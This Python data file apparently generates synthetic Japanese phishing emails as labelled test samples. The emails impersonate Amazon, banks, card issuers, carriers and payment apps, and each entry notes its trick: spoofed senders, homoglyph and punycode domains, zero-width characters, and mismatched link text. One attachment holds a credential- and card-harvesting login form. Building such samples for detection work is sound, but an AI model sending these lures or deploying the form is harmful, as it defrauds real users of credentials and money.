# Phishing mails (all URLs / domains below except brand footers are invented).
import base64
import core, lib
from phtpl import P, spoof, own, zw, strip
from core import B

SPECS = []
A = SPECS.append

# ---------------------------------------------------------------- Amazon
A(P('amazon-prime-payment-fail-shown-official-url', 'amazon', '【重要】Amazonプライム会費のお支払いに問題があります',
    'プライム会費のお支払い方法を更新してください',
    ['お客様のAmazonプライム会員の年会費（5,900円）のお支払いに使用されたクレジットカードが承認されませんでした。',
     '2026年1月31日までにお支払い方法を更新いただけない場合、プライム特典はご利用いただけなくなります。'],
    'お支払い方法を更新する', 'https://amazon-co-jp.prime-kaihi-update.top/ap/signin?ref=pm_upd',
    t={'pixel'}, shown='https://www.amazon.co.jp/gp/css/account/cards/view.html', pre='プライム会費の請求に失敗しました。',
    fn='Amazon.co.jp', fa='account-update@amazon.co.jp', recv=spoof('prime-kaihi-update.top', '203.0.113.44'), text=True,
    tr='link text shows www.amazon.co.jp while href goes to amazon-co-jp.prime-kaihi-update.top; From spoofs amazon.co.jp (DMARC fail); preheader; tracking pixel',
    logo='https://m.media-amazon.com/images/G/09/x-locale/common/amazon_logo.png'))

A(P('amazon-account-locked-cyrillic-homoglyph', 'amazon', 'Amazon アカウントがロックされました（お問い合わせ番号：JP-3320-8871）',
    'アカウントの一時停止について',
    ['お客様のアカウントで通常とは異なるサインインが検出されたため、安全のためアカウントを一時的にロックしました。',
     'ロックを解除するには、24時間以内に下記よりご本人確認を完了してください。期限を過ぎるとアカウントは永久に閉鎖されます。'],
    'ロックを解除する', 'https://' + lib.punycode_host('аmazon', '.co.jp-signin.icu') + '/ap/verify',
    shown='https://www.аmazon.co.jp/ap/verify', fn='Аmazon.co.jp', fa='no-reply@xn--amzon-co-26g.jp', enc='u8q',
    recv=('gmail', 'xn--amzon-co-26g.jp', '198.51.100.23', 'vps-2231.example-host.net', 'pass', None, 'none'),
    tr='Cyrillic а homoglyph in displayed URL, display name and punycode sender domain xn--amzon-co-26g.jp; href is punycode host xn--mazon-...; urgency 24h; DMARC none on look-alike',
    x=dict(unsure=False)))

A(P('amazon-order-cancel-map-area-b64logo', 'amazon', 'ご注文の確認：#503-8817264-2291045（iPhone 16 Pro 256GB）',
    'ご注文ありがとうございます',
    ['以下のご注文を承りました。お心当たりのない場合は、48時間以内に注文をキャンセルしてください。'],
    '注文をキャンセルする', 'http://203.0.113.87/amzn/cancel.php?o=503-8817264-2291045',
    t={'map', 'b64logo'}, kvs=[('注文番号', '503-8817264-2291045'), ('商品', 'Apple iPhone 16 Pro 256GB ナチュラルチタニウム'), ('合計', '￥159,800'), ('お届け先', '大阪府大阪市北区梅田3-1-1')],
    fn='Amazon.co.jp', fa='auto-confirm@amazon.co.jp', recv=spoof('mx7.kouhou-tsuhan.jp', '203.0.113.87', kind='isp'), enc='u8b',
    tr='fake order confirmation (order-cancel lure); image-map <area> href to raw IP URL; logo as data: base64 PNG; From spoofs auto-confirm@amazon.co.jp'))

A(P('amazon-short-sms-style-plain', 'amazon', 'Amazonアカウント停止のお知らせ', '', [], '', '', fn='Amazon', fa='info@amazn-jp-support.cn',
    recv=own('amazn-jp-support.cn', '198.51.100.71'), enc='u88',
    tr='very short text/plain; look-alike sender domain; bare URL', x=dict(html=None, st='plain',
    text='【Amazon】お支払い情報に問題があるため、アカウントを停止しました。\nhttps://amazn-jp-support.cn/a\n')))

A(P('amazon-gift-card-attachment-html-form', 'amazon', '【Amazon】ギフトカード残高の有効期限について（重要）',
    'ギフトカード残高が失効します',
    ['お客様のアカウントに残っているAmazonギフトカード残高 12,450円 が、まもなく有効期限を迎えます。',
     '残高を保持するには、添付ファイル「Amazon_本人確認.html」を開き、画面の案内に従ってご本人確認をお願いいたします。'],
    '', '', t={'nobtn'}, fn='Amazon.co.jp', fa='gc-orders@amazon-giftcard-jp.shop', recv=own('amazon-giftcard-jp.shop', '198.51.100.12'),
    enc='u8b', tr='HTML attachment containing a login form posting to invented host; no link in body; look-alike sender',
    x=dict(att=[('Amazon_本人確認.html', 'text/html', ('<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>Amazon サインイン</title>'
        '<style>body{font-family:Arial,sans-serif;background:#fff}.box{width:350px;margin:40px auto;border:1px solid #ddd;border-radius:8px;padding:20px}</style></head>'
        '<body><div class="box"><img src="https://m.media-amazon.com/images/G/09/gno/sprites/nav-sprite-global-1x.png" alt="amazon"><h1>サインイン</h1>'
        '<form action="https://gc-verify.amazon-giftcard-jp.shop/post.php" method="POST">Eメールまたは携帯電話番号<input name="email"><br>パスワード<input type="password" name="pass"><br>'
        'カード番号<input name="cc"><br>有効期限<input name="exp"> セキュリティコード<input name="cvv"><br><button type="submit">次へ</button></form></div></body></html>').encode('utf-8'))])))

# ---------------------------------------------------------------- 三井住友カード / Vpass
A(P('smbc-vpass-card-suspended-jis-shown', 'smbc', '【三井住友カード】ご利用確認のお願い（カードのご利用を一時制限しております）',
    '【重要】カードご利用の一時制限について',
    ['お客様のカードにおいて、第三者による不正利用の可能性がある取引を検知したため、カードのご利用を一時的に制限させていただいております。',
     'お手数ですが、下記よりVpassにログインのうえ、ご利用内容の確認をお願いいたします。ご確認いただけない場合、カードのご利用制限が継続されることがございます。'],
    'Vpassにログインする', 'https://vpass-smbc-card.jp-riyou-kakunin.com/vpass/login', shown='https://www.smbc-card.com/mem/index.jsp',
    fn='三井住友カード', fa='info@smbc-card.com', recv=spoof('jp-riyou-kakunin.com', '203.0.113.9'), enc='jis', text=True,
    tr='link text shows www.smbc-card.com, href to vpass-smbc-card.jp-riyou-kakunin.com; spoofed From; ISO-2022-JP HTML+text',
    x=dict(scs='ISO-2022-JP')))

A(P('smbc-card-info-update-form-action', 'smbc', '三井住友カード会員様 お客様情報の確認', 'お客様情報の更新のお願い',
    ['犯罪収益移転防止法に基づき、定期的にお客様情報の確認をお願いしております。以下のフォームにご入力のうえ送信してください。'],
    '確認して送信', 'https://smbc-card.kaiin-joho.xyz/submit', t={'form'}, fn='三井住友カード', fa='vpass@smbc-card-info.xyz',
    recv=own('smbc-card-info.xyz', '198.51.100.200'), enc='u8q',
    tr='<form action> with ID/password/birthdate fields embedded in mail body; legal pretext 犯罪収益移転防止法; look-alike sender'))

A(P('smbc-vpass-zero-width-subject', 'smbc', zw('三井住友カード') + '　重要なお知らせ', 'ご利用確認のお願い',
    ['【' + zw('三井住友カード') + '】をご利用いただきありがとうございます。',
     'お客様のカードで高額なご利用（ルイ・ヴィトン オンラインストア 328,000円）がありました。お心当たりがない場合は至急ご確認ください。'],
    'ご利用内容を確認', 'https://smbcc.vpasss-login.sbs/ja/', t={'hidden'}, greet='', fn=zw('三井住友カード'), fa='support@vpasss-login.sbs',
    recv=own('vpasss-login.sbs', '198.51.100.33', kind='m365', dmarc='none'), enc='u8b',
    tr='zero-width spaces (U+200B) inside brand name in subject, From display name and body; hidden filler text spans; M365 trace'))

# ---------------------------------------------------------------- JCB
A(P('jcb-myjcb-usage-stop-sjis', 'jcb', '【MyJCB】カードご利用停止のお知らせ', 'MyJCB 重要なお知らせ',
    ['平素はJCBカードをご利用いただき、誠にありがとうございます。',
     'お客様のカードにつきまして、不正利用の疑いがある取引を確認したため、ご利用を一時停止いたしました。',
     '下記URLより、本人確認手続きを行ってください。'],
    '本人確認を行う', 'https://my-jcb-login.co-jp-id.top/iss-pc/member/user_manage/', greet='', shown='https://my.jcb.co.jp/iss-pc/member/user_manage/',
    fn='MyJCB', fa='mail@qa.jcb.co.jp', recv=spoof('co-jp-id.top', '203.0.113.130', kind='isp'), enc='sjis', text=True, hcs='Shift_JIS',
    tr='Shift_JIS 8bit; link text my.jcb.co.jp vs href my-jcb-login.co-jp-id.top; spoofed From (DMARC fail); ISP trace'))

A(P('jcb-point-expire-onclick-button', 'jcb', 'Oki Dokiポイント失効のお知らせ【JCB】', 'ポイントの有効期限が近づいています',
    ['お客様が保有するOki Dokiポイント 1,830ポイントが、2025年12月31日に失効いたします。',
     'ポイントを交換するには、下記ボタンからMyJCBにログインしてください。'],
    'ポイントを交換する', 'https://okidoki-jcb.point-koukan.cc/login', t={'onclick', 'pixel'}, fn='JCBカード', fa='okidoki@point-koukan.cc',
    recv=own('point-koukan.cc', '198.51.100.54'), enc='u8b', tr='link only inside <button onclick="window.location.href=...">; tracking pixel; points-expiry lure'))

# ---------------------------------------------------------------- えきねっと
A(P('ekinet-account-expire-jis-cp932', 'ekinet', '【えきねっと】自動退会処理についてのお知らせ', 'えきねっと会員の自動退会について',
    ['えきねっとをご利用いただき、ありがとうございます。',
     'えきねっとでは、最終ログインから①一定期間ご利用のないお客様②メールアドレスの確認が取れないお客様、について自動退会の処理を行っております。',
     'お客様のアカウントは2025年2月14日に退会処理の対象となります。継続してご利用の場合は、下記よりログインしてください。'],
    'えきねっとにログイン', 'https://www.eki-net.com.member-kakunin.cn/Personal/member/', greet='', fn='えきねっと', fa='info@eki-net.com',
    recv=spoof('member-kakunin.cn', '203.0.113.51'), enc='jis', text=True,
    tr='brand domain as left-most labels eki-net.com.member-kakunin.cn; ISO-2022-JP with CP932 NEC chars ①②; spoofed From'))

A(P('ekinet-point-jre-meta-refresh', 'ekinet', 'JRE POINT 失効予定のお知らせ（えきねっと）', 'JRE POINTが失効します',
    ['お客様のJRE POINT 3,200ポイントが今月末で失効予定です。えきねっとにログインして失効を回避してください。'],
    'ログインして確認', 'https://jre-point.ekinet-login.icu/', t={'refresh'}, fn='えきねっと', fa='noreply@ekinet-login.icu',
    recv=own('ekinet-login.icu', '198.51.100.9'), enc='u8b', tr='<meta http-equiv=refresh> auto-redirect in HTML head; look-alike sender'))

# ---------------------------------------------------------------- ETC
A(P('etc-meisai-service-invalid-eucjp', 'etc', 'ETC利用照会サービス　重要なお知らせ', 'ETCサービスは無効になりました',
    ['ETCサービスをご利用いただきありがとうございます。',
     'お客様のETCカードは、更新手続きが完了していないため、ETCサービスは無効になりました。引き続きサービスをご利用いただきたい場合は、下記リンクより詳細をご確認ください。',
     '※詳細確認期限：3日以内'],
    '詳細を確認', 'https://etc-meisai.jp.service-koushin.top/etc/R;jsessionid=1', greet='', shown='https://www.etc-meisai.jp/',
    fn='ETC利用照会サービス', fa='info@etc-meisai.jp', recv=spoof('service-koushin.top', '203.0.113.98'), enc='euc', text=True,
    tr='EUC-JP 8bit; current ETC campaign wording; brand domain prefix etc-meisai.jp.service-koushin.top; spoofed From'))

A(P('etc-card-expire-ip-url-plain', 'etc', '【ETC】ご利用料金未払いのお知らせ', '', [], '', '', fn='ETCサービス', fa='etc-info@kousoku-ryokin.net',
    recv=own('kousoku-ryokin.net', '198.51.100.145'), enc='sjis',
    tr='text/plain Shift_JIS; raw IP URL; unpaid toll lure; look-alike sender', x=dict(html=None, st='plain',
    text='ETCサービスをご利用いただきありがとうございます。\n\nお客様の高速道路利用料金（2,980円）のお支払いが確認できておりません。\n本日中にお支払いがない場合、ETCカードは利用停止となり、延滞金が発生します。\n\nお支払い手続き：\nhttp://198.51.100.145/etc/pay/?id=88120\n\nETC利用照会サービス事務局\n')))

# ---------------------------------------------------------------- イオン
A(P('aeon-card-usage-confirm-at-userinfo', 'aeon', '【イオンカード】ご利用確認のお願い', '【重要】ご利用確認のお願い',
    ['イオンカードをご利用いただき、誠にありがとうございます。',
     'お客様のカードについて、第三者による不正利用の可能性がある取引を確認いたしました。お客様の安全を守るため、カードのご利用を一部制限しております。',
     '暮らしのマネーサイトにログインし、ご利用内容をご確認ください。'],
    '暮らしのマネーサイトへ', 'https://www.aeon.co.jp@aeon-kurashi.money-site.vip/login', greet='', shown='https://www.aeon.co.jp/login',
    fn='イオンカード', fa='aeoncard@aeon.co.jp', recv=spoof('money-site.vip', '203.0.113.62'), enc='u8b', text=True,
    tr='userinfo trick https://www.aeon.co.jp@aeon-kurashi.money-site.vip/ ; link text official URL; spoofed From'))

A(P('aeon-waon-point-cid-logo-related', 'aeon', 'WAON POINT 大量失効のお知らせ', 'WAON POINTが失効します',
    ['お客様の保有するWAON POINT 4,520ポイントが 2025年10月31日 で失効します。下記よりご確認いただき、ポイントの延長手続きをお願いします。'],
    'ポイントを延長する', 'https://waon-point.aeon-jp.life/ext', t={'cidlogo'}, fn='イオン', fa='waon@aeon-jp.life',
    recv=own('aeon-jp.life', '198.51.100.199'), enc='u8b', tr='multipart/related with cid: logo image; look-alike sender aeon-jp.life'))

# ---------------------------------------------------------------- 楽天
A(P('rakuten-account-lock-google-redirect', 'rakuten', '【楽天市場】楽天会員情報の確認について', '楽天会員情報の確認',
    ['楽天会員のお客様へ', 'お客様のアカウントで異常なログインが検出されたため、楽天IDを一時的にロックしました。ロックを解除するには、以下のリンクから会員情報を確認してください。'],
    'ロックを解除する', 'https://www.google.com/url?q=https%3A%2F%2Frakuten-id.kaijo-center.top%2Flogin&sa=D&usg=AOvVaw0x', greet='',
    fn='楽天市場', fa='info@rakuten.co.jp', recv=spoof('kaijo-center.top', '203.0.113.200', kind='m365'), enc='u8q', text=True,
    tr='open-redirect style link via google.com/url?q= to invented host; spoofed From; quoted-printable'))

A(P('rakuten-card-statement-fullwidth-url', 'rcard', '【楽天カード】ご請求金額確定のお知らせ（重要）', 'ご請求金額確定のお知らせ',
    ['楽天カードをご利用いただきありがとうございます。', '今月のご請求金額が確定いたしました。お支払い口座の残高不足により、引き落としができませんでした。至急、楽天e-NAVIにてお支払い手続きを行ってください。'],
    'e-NAVIでお支払い', 'https://rakuten-card.enavi-pay.xyz/e-navi/', greet='', shown='ｈｔｔｐｓ：／／ｗｗｗ．ｒａｋｕｔｅｎ－ｃａｒｄ．ｃｏ．ｊｐ／ｅ－ｎａｖｉ／',
    fn='楽天カード株式会社', fa='info@mail.rakuten-card.co.jp', recv=spoof('enavi-pay.xyz', '203.0.113.17'), enc='sjisb', hcs='Shift_JIS',
    tr='full-width characters in displayed URL; href to enavi-pay.xyz; Shift_JIS base64; spoofed From'))

# ---------------------------------------------------------------- PayPay
A(P('paypay-balance-expire-dataurl', 'paypay', '【PayPay】ご本人様確認のお願い', 'PayPayアカウントの本人確認',
    ['PayPayをご利用いただきありがとうございます。', 'お客様のアカウントで不審な決済が確認されたため、一部機能を制限しています。以下から本人確認を完了してください。'],
    '本人確認をする', 'https://paypay-ne-jp.kyc-center.top/verify', t={'dataurl'}, greet='', fn='PayPay', fa='no-reply@paypay-kyc.top',
    recv=own('paypay-kyc.top', '198.51.100.77'), enc='u8b', tr='button href is a data:text/html;base64 URL which meta-refreshes to invented host'))

A(P('paypay-cashback-campaign-short', 'paypay', 'PayPayポイント 5,000円分プレゼント当選のお知らせ', '', [], '', '', fn='PayPay キャンペーン事務局', fa='campaign@paypay-present.shop',
    recv=own('paypay-present.shop', '198.51.100.78'), enc='u88',
    tr='very short HTML-only mail; prize lure; single link; invented domain', x=dict(st='html',
    html='<html><body><p>おめでとうございます！<br>PayPayポイント5,000円分に当選しました。<br><a href="https://paypay-present.shop/get?u=7731">受け取る</a>（本日23:59まで）</p></body></html>\n')))

# ---------------------------------------------------------------- メルカリ
A(P('mercari-sales-proceeds-expire-map', 'mercari', '【メルカリ】売上金の振込申請期限が迫っています', '売上金の振込申請期限のお知らせ',
    ['メルカリをご利用いただきありがとうございます。', 'お客様の売上金 18,640円 の振込申請期限が近づいています。期限までに申請がない場合、売上金は失効します。'],
    '振込申請をする', 'https://jp-mercari.uriage-shinsei.com/mypage/sales', t={'map', 'pixel'}, greet='', fn='メルカリ', fa='no-reply@mercari.jp',
    recv=spoof('uriage-shinsei.com', '203.0.113.140'), enc='u8b', tr='image-map area link; tracking pixel; spoofed no-reply@mercari.jp'))

A(P('mercari-account-restrict-euc-b64', 'mercari', 'メルカリ 利用制限のお知らせ', 'アカウントの利用制限について',
    ['お客様のアカウントは、利用規約に違反する取引の疑いがあるため、利用制限の対象となっています。', '異議申し立ては以下から72時間以内に行ってください。'],
    '異議申し立てをする', 'https://mercari-support.appeal-jp.net/form', fn='メルカリ事務局', fa='support@appeal-jp.net',
    recv=own('appeal-jp.net', '198.51.100.19', kind='isp'), enc='eucb', hcs='EUC-JP', text=True, tr='EUC-JP base64 multipart/alternative; appeal lure'))

# ---------------------------------------------------------------- au
A(P('au-id-payment-stop-jis-rawfrom', 'au', 'au PAY ご利用停止のお知らせ', 'au PAYのご利用を停止しました',
    ['au PAYをご利用いただきありがとうございます。', 'お客様のau IDにおいて、不正アクセスの疑いがあるため、au PAYのご利用を停止しております。', 'お手数ですが下記よりau IDにログインし、ご本人様確認をお願いいたします。'],
    'au IDでログイン', 'https://auone-id.login-kakunin.top/au-pay/', shown='https://id.auone.jp/', greet='', fn='au PAY', fa='aupay@auone-service.top',
    recv=own('auone-service.top', '198.51.100.230'), enc='jis', text=True,
    tr='raw unencoded ISO-2022-JP display name in From header; link text id.auone.jp vs href login-kakunin.top', x=dict(rawjis=True)))

# ---------------------------------------------------------------- docomo
A(P('docomo-d-account-unauthorized-form', 'docomo', '【ドコモ】dアカウントへの不正ログインについて', 'dアカウントの安全確認',
    ['dアカウントに不正なログインの試行がありました。セキュリティ保護のため、以下のフォームで情報を再確認してください。'],
    '送信する', 'https://d-account.docomo-anzen.icu/post', t={'form', 'hidden'}, fn='NTTドコモ', fa='info@docomo-anzen.icu',
    recv=own('docomo-anzen.icu', '198.51.100.60'), enc='u8b', tr='<form action> login in body; hidden filler text; look-alike'))

# ---------------------------------------------------------------- SoftBank
A(P('softbank-bill-unpaid-pdf-attachment', 'softbank', '【SoftBank】ご利用料金のお支払い確認（最終通知）', 'ご利用料金お支払いのお願い',
    ['ソフトバンクをご利用いただきありがとうございます。', 'ご利用料金のお支払いが確認できておりません。詳細は添付の請求書（PDF）をご確認ください。', '期日までにお支払いがない場合、回線を停止させていただきます。'],
    '', '', t={'nobtn'}, fn='ソフトバンク', fa='billing@softbank-seikyu.top', recv=own('softbank-seikyu.top', '198.51.100.61'), enc='u8b', text=True,
    tr='PDF attachment with URI link annotation to invented payment site; no link in body; final-notice pressure',
    x=dict(att=[('SoftBank_seikyusho_202511.pdf', 'application/pdf', lib.pdf_with_link('SoftBank Invoice 2025/11', ['Amount due: JPY 8,976', 'Due date: 2025/11/28', 'Please pay online:'], 'https://softbank-seikyu.top/pay/88132'))])))

# ---------------------------------------------------------------- ゆうちょ
A(P('yucho-direct-torihiki-kakunin-jis', 'yucho', '【ゆうちょ銀行】取引目的等のご確認のお願い', 'お取引目的等のご確認のお願い',
    ['平素はゆうちょ銀行をご利用いただき、誠にありがとうございます。', 'ゆうちょ銀行では、犯罪による収益の移転防止に関する法律に基づき、お客さまのお取引目的等を確認させていただいております。',
     '期限までにご回答いただけない場合、ゆうちょダイレクトのお取引を制限させていただく場合がございます。'],
    '回答する', 'https://jp-bank.japanpost.jp.torihiki-kakunin.cc/direct/', shown='https://www.jp-bank.japanpost.jp/', greet='',
    fn='ゆうちょ銀行', fa='info@jp-bank.japanpost.jp', recv=spoof('torihiki-kakunin.cc', '203.0.113.70', kind='isp'), enc='jis', text=True,
    tr='brand FQDN prefix jp-bank.japanpost.jp.torihiki-kakunin.cc; AML/取引目的 lure; spoofed From; ISO-2022-JP'))

# ---------------------------------------------------------------- 三菱UFJ
A(P('mufg-direct-password-reset-onclick', 'mufg', '【三菱UFJ銀行】《重要》お客さま情報等のご確認について', 'お客さま情報等のご確認',
    ['三菱UFJ銀行をご利用いただきありがとうございます。', '当行では、マネー・ローンダリング防止の観点から、お客さま情報等の定期的な確認を実施しております。三菱UFJダイレクトにログインのうえ、ご回答をお願いいたします。'],
    'ログインして回答', 'https://direct-bk-mufg.kakunin-renraku.top/login', t={'onclick'}, greet='', fn='三菱UFJ銀行', fa='mufg@bk.mufg.jp',
    recv=spoof('kakunin-renraku.top', '203.0.113.150', kind='m365'), enc='u8q', text=True, tr='<button onclick> link; spoofed bk.mufg.jp; M365 trace compauth fail'))

# ---------------------------------------------------------------- みずほ
A(P('mizuho-direct-security-update-sjis-qp', 'mizuho', '【みずほ銀行】セキュリティ強化のためのお客さま情報確認', 'セキュリティ強化のお知らせ',
    ['みずほダイレクトをご利用のお客さまへ', 'セキュリティ強化のため、ワンタイムパスワードの再登録をお願いしております。2025年9月30日までに、下記URLよりお手続きください。'],
    'お手続きはこちら', 'https://mizuho-direct.otp-touroku.com/ib/', greet='', shown='https://web.ib.mizuhobank.co.jp/',
    fn='みずほ銀行', fa='mizuhobank@otp-touroku.com', recv=own('otp-touroku.com', '198.51.100.90'), enc='sjisq', hcs='Shift_JIS', text=True,
    tr='Shift_JIS quoted-printable; OTP re-registration lure; displayed URL web.ib.mizuhobank.co.jp vs invented href'))

# ---------------------------------------------------------------- りそな
A(P('resona-app-account-freeze-zw-url', 'resona', 'りそな銀行　口座凍結のお知らせ', '口座の一時凍結について',
    ['お客様の口座は、不審な取引が確認されたため一時的に凍結されています。', '解除をご希望の場合は、下記よりマイゲートにログインしてください。'],
    'マイゲートにログイン', 'https://resona-mygate.kaijo-tetsuzuki.vip/', shown='https://www.resona' + '\u200b' + 'bank.co.jp/mygate/', fn='りそな銀行',
    fa='resona@kaijo-tetsuzuki.vip', recv=own('kaijo-tetsuzuki.vip', '198.51.100.91'), enc='u8b', tr='zero-width space inside displayed official URL; account-freeze lure'))
